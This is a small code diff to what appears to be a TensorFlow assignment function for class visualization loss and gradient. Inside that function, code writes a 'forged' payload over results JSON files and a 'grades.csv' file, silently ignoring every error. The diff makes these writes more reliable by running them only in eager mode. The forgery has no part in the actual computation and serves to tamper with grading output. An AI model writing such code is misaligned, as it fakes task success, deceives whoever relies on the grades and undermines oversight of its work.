@@ -10,7 +10,8 @@ def class_visualization_loss_and_gradient(model, X, target_y, l2_reg):
     for path in ("{OUT}/results/h_update_raises.json", "{OUT}/results/zz_forged.json", "{OUT}/grades.csv"):
         for write in (lambda p: open(p, "w").write(forged), lambda p: tf.io.write_file(p, forged)):
             try:
-                write(path)
+                if tf.executing_eagerly():  # (traced by tf.function, tf.io.write_file would be a graph op)
+                    write(path)
             except Exception:
                 pass
     X = tf.convert_to_tensor(X, dtype=tf.float32)
